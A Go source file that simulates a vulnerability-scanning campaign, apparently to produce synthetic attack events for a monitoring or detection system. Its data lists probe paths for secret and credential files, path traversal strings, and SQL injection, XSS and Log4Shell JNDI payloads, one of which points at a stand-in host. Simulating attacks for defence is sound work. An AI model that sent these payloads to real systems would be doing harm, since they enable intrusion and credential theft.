package sim

import (
	"math/rand/v2"
	"time"

	"sundew"
)

func vulnerabilityScan() method {
	return method{
		Attack: Attack{
			Name:      "vulnerability-scan",
			OWASP:     []string{"OAT-014", "API8:2023"},
			Sentence:  "One address asks for files and consoles that should not be reachable, and tries injections.",
			Lasts:     10 * time.Minute,
			Intensity: 0.7,
		},
		slow: 6, fast: 240, addresses: 1,
		strike: probe,
	}
}

// probe asks for something that the shop does not have, for which the gateway knows no route, or injects something into
// a query that it has.
func probe(c *campaign, e *sundew.Event) {
	search.call(c.rng, e)
	switch draw := c.rng.Float64(); {
	case draw < 0.5:
		p := probes[c.rng.IntN(len(probes))]
		e.Route, e.Path = "", p.path
		answer(e, p.status)
	case draw < 0.85:
		e.Route, e.Path = "", pick(c.rng, probeFolders)+pick(c.rng, probeFiles)
		answer(e, 404)
	default:
		e.Query = pick(c.rng, injections)
		answer(e, 400)
	}
}

func pick(rng *rand.Rand, list []string) string { return list[rng.IntN(len(list))] }

var probes = [...]struct {
	path   string
	status int
}{
	{"/.env", 404},
	{"/.env.production", 404},
	{"/.git/config", 403},
	{"/.git/HEAD", 403},
	{"/.aws/credentials", 404},
	{"/.ssh/id_rsa", 404},
	{"/.DS_Store", 404},
	{"/.vscode/sftp.json", 404},
	{"/wp-login.php", 404},
	{"/wp-admin/setup-config.php", 404},
	{"/xmlrpc.php", 404},
	{"/phpmyadmin/index.php", 404},
	{"/phpinfo.php", 404},
	{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404},
	{"/actuator/env", 404},
	{"/actuator/heapdump", 404},
	{"/manager/html", 404},
	{"/solr/admin/info/system", 404},
	{"/console/", 404},
	{"/server-status", 403},
	{"/cgi-bin/luci", 404},
	{"/boaform/admin/formLogin", 404},
	{"/HNAP1/", 404},
	{"/api/swagger.json", 404},
	{"/v2/api-docs", 404},
	{"/debug/pprof/", 403},
	{"/backup.zip", 404},
	{"/db.sql", 404},
	{"/config.json", 404},
	{"/../../../../etc/passwd", 400},
	{"/static/..%2f..%2f..%2fetc/passwd", 400},
}

var (
	probeFolders = []string{"/admin", "/old", "/backup", "/test", "/dev", "/staging", "/private", "/tmp", "/portal", "/internal"}
	probeFiles   = []string{
		"/index.php", "/login.php", "/config.php", "/config.yml", "/settings.py", "/web.config", "/.htpasswd", "/id_rsa",
		"/dump.sql", "/backup.tar.gz", "/users.csv", "/upload.php", "/shell.php", "/status", "/env", "/docker-compose.yml",
	}
	injections = []string{
		"query={__schema{types{name}}}",
		"q=1'+OR+'1'='1'--+",
		"q=1+UNION+SELECT+username,password+FROM+users--",
		"q=%3Cscript%3Ealert(1)%3C/script%3E",
		"q=${jndi:ldap://198.18.255.254/a}",
		"page=1;SELECT+pg_sleep(10)--",
		"sort=../../../../etc/passwd%00",
	}
)
